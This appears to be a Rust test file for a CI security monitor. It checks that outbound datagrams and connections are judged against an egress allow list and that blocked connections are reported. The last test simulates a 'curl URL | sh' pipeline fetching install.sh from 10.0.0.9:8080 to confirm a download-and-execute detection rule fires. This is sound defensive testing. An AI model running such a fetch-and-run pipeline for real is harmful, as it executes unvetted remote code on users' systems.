//! Destinations seen at the kernel's egress hooks (io_uring, 32-bit syscalls, Fast Open,
//! addressed datagrams) are judged like `connect(2)`, and say how they were made.

use monitor_common::{CONNECT_VIA_OTHER, CONNECT_VIA_SEND};

use super::*;

#[test]
fn a_datagram_with_a_destination_is_egress_like_a_connection() {
    let mut sim = Sim::new(profile(
        "version: 1\negress:\n  allow: [\"10.0.0.1:5353\"]\n",
    ));
    sim.runner().run_step(300, "__run");
    // Allowed, and DNS to a loopback stub: quiet, whatever the route.
    sim.egress_hook(300, "10.0.0.1", 5353, CONNECT_VIA_SEND, false);
    sim.egress_hook(300, "127.0.0.53", 53, CONNECT_VIA_SEND, false);
    // mDNS and SSDP stay on the link.
    sim.egress_hook(300, "224.0.0.251", 5353, CONNECT_VIA_SEND, false);
    sim.egress_hook(300, "ff02::fb", 5353, CONNECT_VIA_SEND, false);
    assert!(sim.findings.is_empty(), "{:?}", sim.rules());
    sim.egress_hook(300, "10.0.0.9", 5353, CONNECT_VIA_SEND, false);
    let f = sim.only("unexpected-egress");
    assert!(
        f.summary.starts_with("datagram to 10.0.0.9:5353"),
        "{}",
        f.summary
    );
    assert_eq!(f.evidence["via"], "send");
    assert_eq!(f.evidence["blocked"], false);
}

#[test]
fn a_connect_made_outside_connect_syscall_is_judged_and_a_refusal_says_blocked() {
    let mut sim = Sim::new(profile("version: 1\negress:\n  allow: []\n"));
    sim.runner().run_step(300, "__run");
    sim.egress_hook(300, "10.0.0.9", 443, CONNECT_VIA_OTHER, true);
    let f = sim.only("unexpected-egress");
    assert!(
        f.summary.starts_with("blocked connection to 10.0.0.9:443"),
        "{}",
        f.summary
    );
    assert_eq!(f.evidence["via"], "other_connect");
    assert_eq!(f.evidence["blocked"], true);
}

/// `curl URL | sh`: the downloader's connection and the shell's exec travel on different
/// rings, so either may be read first; the pipeline is judged both ways.
#[test]
fn a_download_piped_into_a_shell_is_found_whichever_record_comes_first() {
    for shell_first in [true, false] {
        let mut sim = Sim::new(profile("version: 1\negress:\n  allow: []\n"));
        sim.runner().run_step(300, "__run");
        let shell = |sim: &mut Sim| {
            sim.spawn(
                300,
                320,
                "/usr/bin/dash",
                &["sh"],
                WORKSPACE,
                github_env("__run"),
            );
        };
        if shell_first {
            shell(&mut sim);
        }
        sim.spawn(
            300,
            310,
            "/usr/bin/curl",
            &["curl", "-s", "http://10.0.0.9:8080/install.sh"],
            WORKSPACE,
            github_env("__run"),
        );
        sim.connect(310, "10.0.0.9", 8080);
        if !shell_first {
            shell(&mut sim);
        }
        let found = sim
            .findings
            .iter()
            .find(|f| f.rule == "download-and-execute")
            .unwrap_or_else(|| panic!("shell first: {shell_first}: {:?}", sim.rules()));
        assert_eq!(found.evidence["interpreter"], "sh");
        assert_eq!(found.evidence["destination"], "10.0.0.9:8080");
    }
}
